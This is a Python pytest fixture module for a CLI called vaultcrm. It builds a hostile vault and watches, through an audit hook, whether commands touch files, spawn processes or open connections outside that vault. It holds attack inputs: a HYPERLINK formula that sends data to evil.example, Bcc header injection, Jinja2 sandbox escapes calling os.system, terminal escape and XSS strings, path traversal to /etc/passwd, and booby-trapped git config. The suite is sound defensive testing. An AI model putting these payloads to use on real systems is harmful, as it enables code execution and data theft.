"""The nastiest vault that a stranger could hand out, and a watch over what a command does in it."""

from __future__ import annotations

import os
import subprocess
import sys
import sysconfig
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from vaultcrm.cli import cli

# Windows makes no symbolic links for everybody, and has no terminal of this kind.
collect_ignore_glob = ["test_*"] if os.name == "nt" else []
REPOSITORY = Path(__file__).resolve().parents[2]
SECRET = "the-secret-of-the-house"
# What a terminal would obey: a title, a colour without end, the clipboard, a C1 control, a turned direction, a bell, a return.
NASTY = "\x1b]0;owned\x07\x1b[31m\x1b]52;c;b3duZWQ=\x07\x9b2J\u202e\u2066\r\x08"
IN_YAML = r"\e]0;owned\a\e[31m\e]52;c;b3duZWQ=\a\x9b2J\u202e\u2066\r\b"
LIVE = "<script>alert(1)</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
SYSTEM = ("/usr", "/lib", "/lib64", "/bin", "/proc", "/dev", "/sys", "/etc/localtime", "/etc/timezone", "/etc/mime.types")

SETTINGS = f"""\
format = 1
vault = "stranger"
timezone = "Europe/Berlin"
country = "DE"

[me]
name = "{FORMULA.replace('"', "")} \\u001b[31mRobin\\u202e"
email = "robin@example.com\\r\\nBcc: all@evil.example"
address = "1 Street\\n\\u001b[31m{LIVE}"

[checklist]
file = "Today.md"

[git]
commit = true

[drafts]
checks = ["stranger"]
words = ["\\u001b[31m"]

[queries]
"\\u001b[31mred" = "tag:a"

[[feed]]
name = "usual"
file = "usual.ics"
title = "\\u001b[31m{LIVE}"
level = "full"

[[feed]]
name = "away"
file = "../outside/away.ics"

[[feed]]
name = "linked"
file = "linked.ics"

[[publish]]
to = "folder:../outside"
feed = "usual"

[[publish]]
to = "dav:http://127.0.0.1:9/usual.ics"
feed = "usual"

[[publish]]
to = "git:pages"
feed = "usual"
"""

DANA = f"""\
---
type: contact
id: dana-lee
name: "Dana {IN_YAML} Lee"
aliases: [Dana Lee, "{IN_YAML}", "../../outside"]
title: "{LIVE}"
company: '{FORMULA}'
email: "dana@example.com\\r\\nBcc: all@evil.example"
phone: "tel:+1\\e[31m"
address: "1 Street\\n#read(\\"/etc/passwd\\")\\n@import"
tags: ["a\\e[31m", "../../outside"]
share: ["[[../../outside/secret.txt]]"]
introduced_by: "[[Sam Roe]]"
birthday: 05-02
cadence: 1 month
playbooks: ["stay-in-touch", "../../outside/secret"]
---

{NASTY} {LIVE} ![[../../outside/secret.txt]] ![x](file:///etc/passwd) [x](javascript:alert(1)) {{{{ 1/0 }}}}

## Log

- 2026-11-01 met [[Dana Lee]]: {NASTY}{LIVE} {FORMULA}
- 2026-11-03 skipped [[Dana Lee]] #call{NASTY}: no
- 2026-11-04 wrote{NASTY} [[Dana Lee]]: no such word
"""

INTERVIEW = f"""\
---
type: interview
id: acme-screen
start: 2026-11-17 14:00
end: "15:00"
timezone: Europe/Berlin
place: "https://evil.example/\\r\\nX-EVIL:1 {IN_YAML}"
kind: "panel{IN_YAML}"
job: "[[Acme Staff]]"
interviewers: ["[[Dana Lee]]", "[[Sam Roe]]", "[[Nobody {IN_YAML}]]"]
answer_by: "2026-11-27"
playbooks: [impressive, value-pitch, nasty]
---

## Topics

- [[Dana Lee]]: {NASTY} {LIVE} {{{{ cycler.__init__.__globals__.os.system("touch ran-jinja") }}}}
- #read("/etc/passwd")

## Promised

- [ ] Send [[../../outside/secret.txt]] to [[Dana Lee]] 2026-11-30
- [ ] Send [[/etc/passwd]] and [[linked.pdf]] and [[../outside/secret.txt|the slides]] to [[Dana Lee]] 2026-11-30
- [ ] {NASTY} {LIVE} 2026-11-29

## Log

- 2026-11-17 note: {NASTY}
"""

PLAYBOOK = f"""\
---
type: playbook
name: nasty
title: "{IN_YAML} {LIVE}"
source: "{IN_YAML}"
---

{NASTY} {LIVE}

```yaml
- write:
    act: thank-you
    with: each interviewer
    via: email
    after: interview
    within: 20 days
    draft: ../../../outside/secret
- "step{IN_YAML}":
    act: "{IN_YAML}"
    draft: /etc/passwd
```
"""

TEMPLATE = """\
---
subject: {{ "".__class__.__mro__[1].__subclasses__() }}
---
{% include "../../../outside/secret.txt" %}{% import "os" as os %}
{{ self._TemplateReference__context }} {{ cycler.__init__.__globals__.os.popen("touch ran-jinja").read() }}
"""

JOB = f"""\
---
type: job
id: acme-staff
title: "Staff {IN_YAML} {LIVE}"
company: "Acme"
stage: interviewing
applied: 2026-11-02
url: "javascript:alert(1)"
hiring_manager: "[[Dana Lee]]"
referred_by: "[[Dana Lee]]"
source: '{FORMULA}'
---
"""

SAM = """\
---
type: contact
id: sam-roe
company: Acme
email: sam@example.com
phone: "+1 617 555 0101"
address: |
  Sam Roe
  1 Street
  Berlin
---
"""

DRAFT = f"""\
---
type: draft
touchpoint: nothing
act: thank-you
medium: email
language: ../../outside
recipient: "[[Dana Lee]]"
about: "[[../../outside/secret]]"
subject: "Thanks\\r\\nBcc: all@evil.example {IN_YAML}"
---

Dear Dana,

{NASTY} {LIVE} teh teh [[../../outside/secret.txt]]
"""

RUNS = (
    'import os, pathlib\npathlib.Path(os.environ["RAN"]).mkdir(exist_ok=True)\npathlib.Path(os.environ["RAN"], "{}").touch()\n'
)
SCRIPT = '#!/bin/sh\nmkdir -p "$RAN"; touch "$RAN/{}"; cat 2>/dev/null\n'
PROGRAMS = ("git", "git.exe", "vaultcrm.bat", "hook", "pbcopy", "xclip", "tmux", "open", "xdg-open", "sh")
MODULES = ("click", "yaml", "sitecustomize", "usercustomize", "icalendar", "holidays", "watchdog", "jinja2", "typst", "tomllib")
HOOKS = (
    "pre-commit",
    "commit-msg",
    "post-commit",
    "prepare-commit-msg",
    "post-index-change",
    "pre-push",
    "reference-transaction",
)

GIT = {
    "core.fsmonitor": "{hook} fsmonitor",
    "core.hooksPath": "hooks",
    "core.sshCommand": "{hook} ssh",
    "core.pager": "{hook} pager",
    "core.editor": "{hook} editor",
    "core.attributesFile": "{outside}/secret.txt",
    "diff.external": "{hook} external",
    "filter.evil.clean": "{hook} clean",
    "filter.evil.smudge": "{hook} smudge",
    "filter.evil.process": "{hook} process",
    "diff.evil.textconv": "{hook} textconv",
    "diff.evil.command": "{hook} diff",
    "merge.vaultcrm.driver": "{hook} merge",
    "gpg.program": "{hook} gpg",
    "commit.gpgSign": "true",
    "credential.helper": "!{hook} credential",
    "remote.origin.url": "ext::{hook} remote",
    "protocol.ext.allow": "always",
    "remote.origin.uploadpack": "{hook} upload",
    "user.name": "Stranger",
    "user.email": "stranger@evil.example",
}


@dataclass
class Stranger:
    """The vault and the house around it; of the last command what was ``seen`` outside, ``started``, ``called``."""

    vault: Path
    home: Path
    outside: Path
    ran: Path
    own: tuple[Path, ...]
    seen: list[str] = field(default_factory=list)
    started: list[str] = field(default_factory=list)
    called: list[str] = field(default_factory=list)

    def run(self, *words: str, text: str | None = None) -> Result:
        """Type a command in the vault's folder."""
        for noted in (self.seen, self.started, self.called):
            noted.clear()
        _WATCHED.append(self)
        try:
            return CliRunner().invoke(cli, ["--today", "2026-11-20", "--color", "always", *words], input=text)
        finally:
            _WATCHED.remove(self)

    def state(self) -> dict[str, bytes]:
        """All that lies outside, to see whether anything was written there."""
        return {str(path): path.read_bytes() for path in sorted(self.outside.rglob("*")) if path.is_file()}


def write(folder: Path, files: dict[str, str]) -> None:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(text.encode("utf-8"))


def link(vault: Path, name: str, target: Path) -> None:
    (vault / name).parent.mkdir(parents=True, exist_ok=True)
    (vault / name).unlink(missing_ok=True)
    (vault / name).symlink_to(target, target_is_directory=target.is_dir())


def _notes(vault: Path) -> None:
    write(
        vault,
        {
            "vaultcrm.toml": SETTINGS,
            "contacts/Dana Lee.md": DANA,
            "contacts/Sam Roe.md": SAM,
            "contacts/\x1b[31mred\u202e.md": "---\ntype: contact\nname: [\n---\n",
            "interviews/2026-11-17 Acme.md": INTERVIEW,
            "jobs/Acme Staff.md": JOB,
            "playbooks/nasty.md": PLAYBOOK,
            "drafts/2026-11-18 Dana Lee thank-you.md": DRAFT,
            "templates/drafts/en/thank-you.md": TEMPLATE,
            "search.md": "---\ntype: search\nstatus: active\n---\n",
            **{f"{name}.py": RUNS.format(name) for name in MODULES},
            "vaultcrm/__init__.py": RUNS.format("vaultcrm"),
            "vaultcrm/cli/__init__.py": RUNS.format("vaultcrm.cli"),
            **{name: SCRIPT.format(name) for name in PROGRAMS},
            **{f"hooks/{name}": SCRIPT.format(name) for name in HOOKS},
        },
    )
    for name in (*PROGRAMS, *(f"hooks/{name}" for name in HOOKS)):
        (vault / name).chmod(0o755)


def _links(vault: Path, outside: Path) -> None:
    """Links that lead out, of everything that the program knows by its name."""
    for name, target in {
        "Inbox.md": "inbox.md",
        "Today.md": "today.md",
        "linked.ics": "linked.ics",
        "linked.pdf": "secret.txt",
        "contacts/Linked.md": "secret.md",
        "people": "people",
        "templates/contact.md": "secret.md",
        "templates/interview.md": "secret.md",
        "templates/drafts/en/letter.md": "secret.md",
        "templates/drafts/fr": "people",
        "playbooks/linked.md": "secret.md",
        "drafts/linked.md": "secret.md",
        ".gitignore": "secret.txt",
        ".gitattributes": "secret.txt",
        "drafts/2026-11-18 Dana Lee thank-you.eml": "secret.txt",
    }.items():
        link(vault, name, outside / target)
    (vault / "contacts" / "Loop.md").symlink_to("Loop.md")


def _repository(vault: Path, outside: Path) -> None:
    """A clone that was handed over with its ``.git``."""
    subprocess.run(["git", "init", "-q", str(vault)], check=True)
    with (vault / ".git/config").open("a", encoding="utf-8") as settings:
        for key, value in GIT.items():
            section, _, last = key.rpartition(".")
            name, _, part = section.partition(".")
            said = value.format(hook=f"{vault.as_posix()}/hook", outside=outside)
            quoted = f' "{part}"' if part else ""
            settings.write(f'[{name}{quoted}]\n{last} = "{said}"\n')
    (vault / ".git" / "info").mkdir(exist_ok=True)
    (vault / ".git" / "info" / "attributes").write_text("* filter=evil diff=evil merge=vaultcrm\n")


@pytest.fixture
def stranger(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Stranger:
    """A stranger's vault, the current folder of whoever looks at it; what happens outside is written down."""
    vault, outside, home = tmp_path / "vault", tmp_path / "outside", tmp_path / "home"
    names = ("secret.txt", "secret.md", "inbox.md", "today.md", "linked.ics", "people/Eve Mallory.md", "people/language.toml")
    write(outside, dict.fromkeys(names, f"---\ntype: contact\n---\n- {SECRET}\n"))
    _notes(vault)
    _links(vault, outside)
    _repository(vault, outside)
    own = (home / "state", home / "cache")
    home.mkdir()
    for name, value in {"HOME": home, "VAULTCRM_STATE": own[0], "VAULTCRM_CACHE": own[1], "RAN": tmp_path / "ran"}.items():
        monkeypatch.setenv(name, str(value))
    monkeypatch.chdir(vault)
    return Stranger(vault, home, outside, tmp_path / "ran", own)


_WATCHED: list[Stranger] = []
_PLACES = {"open": 0, "os.listdir": 0, "os.scandir": 0, "os.mkdir": 0, "os.remove": 0, "os.rmdir": 0, "os.truncate": 0,
           "os.chmod": 0, "os.rename": 1, "os.link": 1, "os.symlink": 1, "os.utime": 0, "sqlite3.connect": 0}  # fmt: skip
_CALLS = ("socket.connect", "socket.bind", "socket.getaddrinfo", "socket.sendto", "urllib.Request", "http.client.connect")
_STARTS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.startfile")
_ALLOWED = tuple({os.path.realpath(path) for path in (sys.prefix, sys.base_prefix, sysconfig.get_path("stdlib"), REPOSITORY)})


def _note(event: str, arguments: tuple[Any, ...]) -> None:
    if not _WATCHED:
        return
    one = _WATCHED[-1]
    if event in _CALLS:
        one.called.append(f"{event} {arguments!r}")
    elif event in _STARTS:
        one.started.append(f"{event} {arguments[:2]!r}")
    elif event in _PLACES and isinstance(place := arguments[_PLACES[event]], str | bytes | os.PathLike):
        real = os.path.realpath(os.fsdecode(place))
        inside = (*map(str, (one.vault, *one.own)), *_ALLOWED, *SYSTEM)
        if not any(real == folder or real.startswith(folder + os.sep) for folder in inside) and "/vaultcrm-" not in real:
            one.seen.append(f"{event} {real}")


sys.addaudithook(_note)
